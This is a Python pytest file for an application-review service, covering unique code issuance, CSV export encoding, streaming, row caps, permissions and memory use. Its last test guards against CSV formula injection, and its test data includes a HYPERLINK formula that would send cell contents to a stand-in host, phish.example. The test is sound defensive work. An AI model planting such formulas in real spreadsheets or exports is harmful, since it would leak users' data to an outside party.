"""Codes issued by approvals (unique, never reused, configured lengths) and the CSV export."""
import csv
import io
import re
from datetime import timedelta

import pytest
from sqlalchemy import delete, select

from db.models import IssuedCode, User, UserCode
from db.reference import CODE_FORMATS
from services import clock, codes
from services.authz import DESK, REVIEWER
from services.calendar import add_business_days
from services.errors import PermissionDenied
from services.review import actions, export
from services.review.export import BOM
from services.review.queue import QueueFilters
from services.uow import UnitOfWork
from tests.factories import bulk_submitted_applications, make_application, make_staff, version_of


def test_codes_from_many_approvals_are_unique_and_well_formed(db):
    reviewer = make_staff("rev1", REVIEWER)
    start = add_business_days(clock.today_jst(), 3)
    results = []
    for _ in range(5):
        app_id, _ = make_application()
        results.append(actions.approve(reviewer, app_id, start, version_of(app_id)))
    offices = [r.office_code for r in results]
    user_ids = [u for r in results for u in r.user_ids]
    assert len(set(offices)) == 5 and len(set(user_ids)) == len(user_ids) == 15
    office_re = re.compile(rf"^[A-Z2-9]{{{CODE_FORMATS['office_code_length']}}}$")
    assert all(office_re.match(o) for o in offices)
    with UnitOfWork() as u:
        s = u.session
        for uc in s.scalars(select(UserCode)):
            assert len(uc.user_code) == CODE_FORMATS["user_code_length"]
            assert all(len(n) == CODE_FORMATS["id_number_length"] for n in uc.id_numbers)
        issued = set(s.scalars(select(IssuedCode.code)))
    assert set(offices) <= issued and set(user_ids) <= issued


def test_a_code_whose_owner_is_gone_is_never_issued_again(db, monkeypatch):
    reviewer = make_staff("rev1", REVIEWER)
    app_id, _ = make_application()
    office = actions.approve(reviewer, app_id, add_business_days(clock.today_jst(), 3), version_of(app_id)).office_code
    with UnitOfWork() as u:  # the office user disappears; its code stays reserved
        s = u.session
        s.execute(delete(User).where(User.login_id == office))
        s.commit()
    candidates = iter([office[1:], "ZZZZZZZ"])
    monkeypatch.setattr(codes, "_random", lambda n, alphabet=codes.ALPHABET: next(candidates))
    monkeypatch.setattr(codes.secrets, "choice", lambda seq: office[0] if office[0] in seq else seq[0])
    with UnitOfWork() as u:
        s = u.session
        fresh = codes.new_office_code(s)
        s.commit()
    assert fresh != office and fresh == office[0] + "ZZZZZZZ"


def _csv(actor, **filters) -> tuple[bytes, list[list[str]]]:
    data = b"".join(export.export_csv(actor, QueueFilters(**filters), "submitted_at",
                                      headers={"ref_no": "受付番号", "company_name": "会社名"}))
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_bom_header_and_japanese_intact(db):
    reviewer = make_staff("rev1", REVIEWER)
    make_application(company="株式会社　日本海運", industries=("通関業", "船会社"), connection_type="GENERAL")
    make_application(company="Ｃｏ，ltd \"quoted\"", connection_type="NET")
    make_application(status="DRAFT")
    data, rows = _csv(reviewer)
    assert data.startswith(BOM)
    assert rows[0][0] == "受付番号" and rows[0][4] == "会社名" and rows[0][1] == "kind"
    assert len(rows) == 3  # header + the two submitted, not the draft
    # The 企業名 as the wizard stored it on 事業所・企業 (its full-width space normalised).
    assert rows[1][4] == "株式会社 日本海運" and rows[1][7] == "通関業、船会社"
    assert rows[2][4] == "Ｃｏ，ltd \"quoted\""
    labelled = b"".join(export.export_csv(reviewer, QueueFilters(), "submitted_at",
                                          value_labels={"status": {"SUBMITTED": "申込受付"}}))
    assert list(csv.reader(io.StringIO(labelled.decode("utf-8-sig"))))[1][3] == "申込受付"
    _, only_net = _csv(reviewer, connection_type="NET")
    assert [r[4] for r in only_net[1:]] == ["Ｃｏ，ltd \"quoted\""]


def test_csv_is_streamed_in_chunks(db, monkeypatch):
    reviewer = make_staff("rev1", REVIEWER)
    now = clock.now()
    for i in range(7):
        make_application(submitted_at=now - timedelta(minutes=i))
    monkeypatch.setattr(export, "CHUNK_ROWS", 3)
    chunks = list(export.export_csv(reviewer, QueueFilters(), "submitted_at"))
    assert len(chunks) == 1 + 3  # header, then 3 + 3 + 1 rows
    assert sum(c.count(b"\r\n") for c in chunks[1:]) == 7


def test_csv_holds_at_most_its_row_cap_in_the_sort_order(db, monkeypatch):
    """Streamlit keeps the whole download in memory (issue 9 item 5): the file is bounded."""
    reviewer = make_staff("rev1", REVIEWER)
    now = clock.now()
    for i in range(5):
        make_application(submitted_at=now - timedelta(minutes=i))
    monkeypatch.setattr(export, "ROW_CAP", 3)
    rows = list(csv.reader(io.StringIO(b"".join(export.export_csv(reviewer, QueueFilters(), "submitted_at"))
                                       .decode("utf-8-sig"))))
    assert len(rows) == 1 + 3
    everything = b"".join(export.export_csv(reviewer, QueueFilters(), "submitted_at", row_cap=10))
    assert everything.count(b"\r\n") == 1 + 5
    first_three = list(csv.reader(io.StringIO(everything.decode("utf-8-sig"))))[1:4]
    assert rows[1:] == first_three  # the first rows in the sort order, not any three


def test_csv_needs_a_reviewer(db):
    with pytest.raises(PermissionDenied):
        next(export.export_csv(make_staff("desk1", DESK), QueueFilters(), "submitted_at"))


def _peak_while_exporting(actor) -> int:
    import tracemalloc
    tracemalloc.start()
    try:
        for _ in export.export_csv(actor, QueueFilters(), "submitted_at"):
            pass  # a download writes each chunk away; nothing is kept
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_csv_memory_does_not_grow_with_the_row_count(db, monkeypatch):
    reviewer = make_staff("rev1", REVIEWER)
    monkeypatch.setattr(export, "CHUNK_ROWS", 200)
    bulk_submitted_applications(400)
    _peak_while_exporting(reviewer)  # warm-up: compiled statements and caches
    small = _peak_while_exporting(reviewer)
    bulk_submitted_applications(3600)
    large = _peak_while_exporting(reviewer)
    # Ten times the rows, about the same peak: rows are streamed in chunks, never all held at once.
    assert large < small * 2, (small, large)


# TAB and CR cannot be typed into a company name any more (services.fields refuses control
# characters); tests/unit/test_exports.py covers those two starts of a cell.
FORMULAS = ("=1+1", "+1", "-1", "@SUM(1)", '=HYPERLINK("http://phish.example/?d="&A1,"詳細")')


def test_csv_cells_that_start_a_formula_are_exported_as_text(db):
    """Issue 8, item 7: typed company names starting with = + - @ TAB CR open as text in a spreadsheet."""
    reviewer = make_staff("rev1", REVIEWER)
    for formula in FORMULAS:
        make_application(company=formula)
    _, rows = _csv(reviewer)
    header, body = rows[0], rows[1:]
    companies = {r[header.index("会社名")] for r in body}
    assert len(body) == len(FORMULAS)
    for cell in (c for r in body for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Each typed value is there, behind the quote (tab and CR as stored after the screen's cleaning).
    with UnitOfWork() as u:
        from db.models import Applicant
        stored = set(u.session.scalars(select(Applicant.company_name)))
    assert companies == {"'" + s if s.startswith(("=", "+", "-", "@", "\t", "\r")) else s for s in stored}
    assert "'=1+1" in companies and "'@SUM(1)" in companies
